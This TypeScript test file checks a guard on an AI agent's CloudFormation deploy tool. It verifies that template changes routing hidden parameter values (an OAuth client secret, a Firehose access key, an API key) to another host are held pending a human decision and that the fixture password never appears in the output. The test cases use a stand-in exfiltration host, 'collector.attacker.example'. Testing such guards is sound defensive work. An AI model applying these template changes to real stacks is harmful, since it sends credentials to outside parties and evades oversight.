import { afterAll, beforeAll, expect, test } from 'vitest';
import { REASON } from '../scenes/front-door.ts';
import { type Scene, setScene } from '../scenes/whole.ts';

/*
 * An agent in a development stack has AWS send what AWS never shows to a host of the agent's own: the address stands in
 * the same template.
 */

const PASSWORD = 'Correct-Horse-Battery9';
const PIN = { Ref: 'Pin' };
const ELSEWHERE = 'collector.attacker.example';
const TOPIC = { Type: 'AWS::SNS::Topic', Properties: { DisplayName: 'plain' } };
const BUCKET = { Type: 'AWS::S3::Bucket' };
const ROLE = {
  Type: 'AWS::IAM::Role',
  Properties: {
    AssumeRolePolicyDocument: {
      Version: '2012-10-17',
      Statement: [{ Effect: 'Allow', Principal: { Service: 'firehose.amazonaws.com' }, Action: 'sts:AssumeRole' }],
    },
  },
};
const oauth = (AuthorizationEndpoint: unknown, ClientID = 'a') => ({
  Type: 'AWS::Events::Connection',
  Properties: {
    AuthorizationType: 'OAUTH_CLIENT_CREDENTIALS',
    AuthParameters: {
      OAuthParameters: { AuthorizationEndpoint, HttpMethod: 'POST', ClientParameters: { ClientID, ClientSecret: PIN } },
    },
  },
});
const apiKey = {
  Type: 'AWS::Events::Connection',
  Properties: {
    AuthorizationType: 'API_KEY',
    AuthParameters: { ApiKeyAuthParameters: { ApiKeyName: 'x-key', ApiKeyValue: PIN } },
  },
};
const arn = (id: string) => ({ 'Fn::GetAtt': [id, 'Arn'] });
const hose = (host: string) => ({
  Type: 'AWS::KinesisFirehose::DeliveryStream',
  Properties: {
    HttpEndpointDestinationConfiguration: {
      EndpointConfiguration: { Url: `https://${host}/`, AccessKey: PIN },
      RoleARN: arn('Role'),
      S3Configuration: { BucketARN: arn('Bucket'), RoleARN: arn('Role') },
    },
  },
});
const HERE = 'https://login.partner.example/token';
const host = (Url: string) => ({ 'Fn::Sub': `https://\${${Url}}/token` });
const TEMPLATE = {
  Parameters: {
    Pin: { Type: 'String', NoEcho: true },
    Host: { Type: 'String' },
    Kept: { Type: 'String', NoEcho: true },
  },
  Resources: {
    Topic: TOPIC,
    Bucket: BUCKET,
    Role: ROLE,
    Conn: oauth(HERE),
    By: oauth(host('Host')),
    Stream: hose('intake.partner.example'),
  },
};
const VALUES = { Pin: PASSWORD, Host: 'login.partner.example', Kept: 'hidden.partner.example' };

let scene: Scene;
beforeAll(async () => {
  scene = await setScene(
    { stacks: [{ name: 'shop', template: TEMPLATE, parameters: VALUES }] },
    {
      config: 'environments: [{ name: development, match: { stack_names: [shop] } }]\n',
      latencyMs: 2,
      serve: [],
    },
  );
}, 60_000);
afterAll(async () => await scene?.[Symbol.asyncDispose]());

async function deploy(change: object, more: object = {}) {
  const template = { ...TEMPLATE, Resources: { ...TEMPLATE.Resources, ...change } };
  const answer = await scene.agent.call('cloudformation_deploy_stack', {
    ...{ stack_name: 'shop', template_body: JSON.stringify(template), capabilities: ['CAPABILITY_IAM'] },
    ...{ reason: REASON, ...more },
  });
  expect(JSON.stringify(answer)).not.toMatch(/correct.?horse|battery9/i);
  const impact = (answer.plan?.impact ?? []) as readonly { readonly effect: string; readonly detail: string }[];
  const lines = impact.map(({ effect, detail }) => `${effect} ${detail}`);
  return { answer, sent: lines.filter((line) => /^expose .* has AWS send a hidden value/.test(line)) };
}

test.each<[string, object, RegExp, object?]>([
  [
    'a new connection',
    { New: oauth(`https://${ELSEWHERE}/`) },
    /^expose New: .*ClientSecret has AWS send .*Pin.*AuthorizationEndpoint/,
  ],
  [
    'a connection that moves',
    { Conn: oauth(`https://${ELSEWHERE}/`) },
    /^expose Conn: .*ClientSecret .*AuthorizationEndpoint/,
  ],
  ['one that moves by a parameter', {}, /^expose By: .*ClientSecret/, { parameters: { Host: ELSEWHERE } }],
  ['one at an address that is hidden', { Conn: oauth(host('Kept')) }, /^expose Conn: .*ClientSecret/],
  ['a new stream', { New: hose(ELSEWHERE) }, /^expose New: .*AccessKey has AWS send .*Pin.*EndpointConfiguration\.Url/],
  ['a stream that moves', { Stream: hose(ELSEWHERE) }, /^expose Stream: .*AccessKey .*Url/],
  ['what those who use it send on', { New: apiKey }, /^expose New: .*ApiKeyValue has AWS send .*its users name/],
])('a hidden value that AWS would send elsewhere takes a decision: %s', async (_, change, line, more) => {
  const { answer, sent } = await deploy(change, more);
  expect(answer.ticket?.state, JSON.stringify(answer)).toBe('pending');
  expect(sent).toEqual([expect.stringMatching(line)]);
});

test('what goes where it went before is not said to be sent', async () => {
  const { answer, sent } = await deploy({ Topic: { ...TOPIC, Properties: { DisplayName: 'another' } } });
  expect(answer.ticket?.state, JSON.stringify(answer)).toBe('succeeded');
  expect(sent).toEqual([]);
});
